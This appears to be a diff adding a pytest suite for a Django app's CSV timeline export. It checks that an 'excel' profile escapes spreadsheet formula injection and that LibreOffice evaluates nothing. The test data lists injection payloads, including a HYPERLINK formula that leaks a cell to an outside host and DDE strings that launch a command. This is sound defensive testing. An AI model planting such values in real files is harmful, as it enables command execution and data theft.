@@ -1,0 +1,118 @@
+"""Formulas that somebody may have printed: harmless in a spreadsheet, untouched for code."""
+
+from __future__ import annotations
+
+import csv
+import io
+import shutil
+import subprocess
+from pathlib import Path
+
+import pytest
+from django.test import Client
+
+from markets.models import Listing
+from markets.tables.guard import unescape
+from markets.tables.scope import Scope
+
+ATTACKS = [
+    '=HYPERLINK("http://example.org/?"&A1,"click")',
+    "=cmd|' /C calc'!A0",
+    "+1+1",
+    "-2+3",
+    "@SUM(1+1)",
+    "\t=1+1",
+    "\r=1+1",
+    "  =1+1",
+    "\u200b=1+1",
+    "\ufeff=1+1",
+    "\u00a0+1",
+    "＝1+1",
+    "＋1",
+    "－1",
+    "＠SUM(1)",
+    "'=1+1",
+    "'",
+    '"=1+1"',
+    '=1+1","=2+2',
+    "a\n=1+1",
+    '%0A-3+3+cmd|" /C calc"!D2',
+]
+
+
+@pytest.fixture
+def attacked(record: Scope) -> list[str]:
+    """The record with an attack for the name of each of some listings; gives them in the order of the file."""
+    listings = list(Listing.objects.public().order_by("market__slug", "edition__year")[: len(ATTACKS)])
+    for listing, attack in zip(listings, ATTACKS, strict=True):
+        listing.printed_name = attack
+        listing.save()
+    return ATTACKS
+
+
+def _names(content: bytes) -> list[str]:
+    rows = list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"), newline="")))
+    return [row["printed_name"] for row in rows][: len(ATTACKS)]
+
+
+def test_the_raw_profile_gives_every_attack_as_it_is(attacked: list[str], client: Client) -> None:
+    assert _names(client.get("/data/timeline.csv").content) == attacked
+
+
+def test_the_excel_profile_can_be_undone(attacked: list[str], client: Client) -> None:
+    names = _names(client.get("/data/timeline.csv?profile=excel").content)
+    assert [unescape(name) for name in names] == attacked
+    assert not [
+        name for name in names if name.lstrip(" \t\r\n\u00a0\u200b\ufeff")[:1] in tuple("=+-@＝＋－＠")
+    ]
+
+
+def test_numbers_in_the_excel_profile_are_numbers(attacked: list[str], client: Client) -> None:
+    raw, excel = (
+        list(
+            csv.DictReader(
+                io.StringIO(client.get(f"/data/timeline.csv{query}").content.decode("utf-8-sig"), newline="")
+            )
+        )
+        for query in ("", "?profile=excel")
+    )
+    for name in (
+        "row_id",
+        "year",
+        "released_on",
+        "recommendation_count",
+        "source_url",
+        "permalink",
+        "domains",
+    ):
+        assert [row[name] for row in raw] == [row[name] for row in excel]
+
+
+def _imported(content: bytes, folder: Path) -> str:
+    """The file as LibreOffice Calc takes it in, as XML."""
+    soffice = shutil.which("soffice")
+    if soffice is None or not list(Path(soffice).resolve().parent.glob("libsclo.*")):
+        pytest.skip("no LibreOffice Calc was found: install libreoffice-calc to have it import the file")
+    file = folder / "timeline.csv"
+    file.write_bytes(content)
+    # 44: comma, 34: quote, 76: UTF-8; the eighth, true: special numbers are detected, as a careless reader would.
+    options = "Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,-1"
+    command = [soffice, f"-env:UserInstallation=file://{folder}/home", "--headless", "--convert-to", "fods"]
+    subprocess.run(
+        [*command, f"--infilter={options}", file.name],
+        cwd=folder,
+        check=True,
+        capture_output=True,
+        timeout=180,
+    )
+    return (folder / "timeline.fods").read_text(encoding="utf-8")
+
+
+def test_libreoffice_evaluates_nothing_of_what_is_for_spreadsheets(
+    attacked: list[str], client: Client, tmp_path: Path
+) -> None:
+    sheet = _imported(client.get("/data/timeline.csv?profile=excel").content, tmp_path)
+    assert "Taobao.com" in sheet
+    assert "table:formula=" not in sheet
+    # The check itself can fail: without the guard the same rows are formulas.
+    assert "table:formula=" in _imported(client.get("/data/timeline.csv").content, tmp_path)
